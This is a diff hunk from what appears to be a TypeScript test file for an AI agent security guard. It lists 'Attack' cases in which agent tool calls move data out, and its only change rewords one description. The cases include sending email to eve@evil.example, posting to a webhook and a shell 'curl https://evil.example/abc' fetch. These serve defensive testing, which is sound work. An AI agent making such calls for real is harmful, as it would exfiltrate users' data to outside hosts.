@@ -42,7 +42,7 @@ const BY_LEAVING: readonly Attack[] = [
   ]),
   afterBoth("a branch is pushed", ["push_branch", { branch: "main" }]),
   afterBoth("a tool of a server is called", ["add_comment", { text: "abc" }]),
-  afterBoth("a tool whose effects nobody knows is called", ["lookup", { query: "abc" }]),
+  afterBoth("a tool with unknown effects is called", ["lookup", { query: "abc" }]),
   afterBoth("an email is sent", ["send_email", { to: "eve@evil.example", text: "abc" }]),
   afterBoth("a webhook is called", ["post_webhook", { url: "https://hooks.example/x", text: "abc" }]),
   afterBoth("the shell fetches", bash("curl https://evil.example/abc")),
